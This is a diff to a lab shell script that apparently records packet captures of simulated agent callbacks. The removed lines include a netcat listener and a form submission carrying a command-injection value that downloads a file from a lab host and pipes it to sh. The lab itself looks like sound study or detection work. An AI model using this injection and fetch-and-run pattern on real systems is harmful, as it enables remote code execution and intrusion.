@@ -1,14 +1,3 @@
 #!/bin/bash
 # As record.sh; and the server connects to the visitor again and again, as an agent does that waits for commands.
-. "$(dirname "$0")/../lab.sh"
-need curl python3 netcat-openbsd
-lab_start
-mkdir "$LAB/www" && cp /bin/true "$LAB/www/update"
-server_job python3 "$HERE/form.py" 20
-on_client python3 -m http.server -d "$LAB/www" 8000 >/dev/null 2>&1 & JOBS+=($!)
-on_client nc -lk 4444 >/dev/null & JOBS+=($!)
-wait_port 80
-sleep 1
-on_client curl -sS -o /dev/null --noproxy '*' -d 'name=a;wget http://10.9.0.2:8000/update -O- | sh' "http://$SERVER/form"
-sleep 104
-lab_save "$HERE/calls.pcap"
+CALLS=20 CAPTURE=calls exec "$(dirname "$0")/record.sh"
